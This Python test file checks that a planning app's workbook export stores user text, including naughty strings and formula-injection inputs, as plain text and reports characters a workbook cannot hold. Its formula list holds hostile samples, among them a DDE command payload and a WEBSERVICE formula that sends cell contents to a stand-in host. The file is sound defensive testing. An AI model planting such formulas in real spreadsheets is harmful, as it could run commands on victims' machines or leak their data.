"""What people type comes back from the plan's workbook as the same text, whatever it is."""

from __future__ import annotations

import itertools
import zipfile
from io import BytesIO

from app.plan_sheets.queries import line_of
from app.plan_sheets.rules.cells import Part
from app.plan_sheets.rules.layout import ACTIONS, COLUMNS
from app.sheets.opening import read_back, text_of
from tests.books import saved
from tests.hostile.payloads import naughty
from tests.unit.plan_sheets.planning import brought, loaded, planned, written

_STARTS = ("=", "+", "-", "@", "\t=", " =", "＝", "'=", '"=', "=\n", "=-", "+=")
_CALLS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.org","here")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.org/"&A1)',
)
FORMULAS = [f"{start}{call}" for start, call in itertools.product(_STARTS, _CALLS)]
_UNWRITABLE = ("\x01", "\x07", "\x0b", "\x1b", "\x1f", "\ufffe", "\uffff")


def test_five_hundred_naughty_texts_and_sixty_formulas_come_back_the_same() -> None:
    texts = [*naughty(500), *FORMULAS]
    plan = [
        planned(at, text.strip(), owner=text[:200].strip(), reason=text.strip())
        for at, text in enumerate(texts, start=1)
    ]

    book = written(plan)

    assert (len({*naughty(500)}), len({*FORMULAS})) == (500, 60)
    sheet = loaded(book)[ACTIONS]
    came_back = [
        text_of(sheet.cell(at, COLUMNS[Part.WHAT]).value) for at in range(4, 4 + len(plan))
    ]
    assert came_back == [each.what for each in plan]
    with zipfile.ZipFile(BytesIO(book)) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist())
    told = brought(saved(loaded(book)))
    assert (told.filled, told.wrong, told.left_out) == ([], [], ())


def test_the_same_texts_typed_into_a_workbook_are_read_as_they_were_typed() -> None:
    texts = [each.strip() for each in (*naughty(500), *FORMULAS)]
    for begin in range(0, len(texts), 60):
        typed = texts[begin : begin + 60]
        book = loaded(written([]))
        for at, text in enumerate(typed, start=4):
            cell = book[ACTIONS].cell(at, COLUMNS[Part.WHAT])
            cell.value, cell.data_type = text.replace("_x", "_x005F_x"), "s"

        filled = brought(saved(book)).filled
        assert [each.says for each in filled if each.place.part is Part.WHAT] == typed


def test_what_no_workbook_can_hold_is_left_out_said_and_kept_in_the_plan() -> None:
    plan = [planned(7, "Ring" + "".join(_UNWRITABLE) + "the bell"), planned(8, "Plain")]

    book = written(plan)

    assert line_of(plan[0]).loses
    assert read_back(plan[0].what) == "Ringthe bell"
    said = [text_of(line[0].value) for line in loaded(book)["Start here"].iter_rows()]
    assert [each for each in said if "action 7" in each and "stay in the plan" in each]
    assert not [each for each in said if "8" in each]
    assert brought(book).filled == []
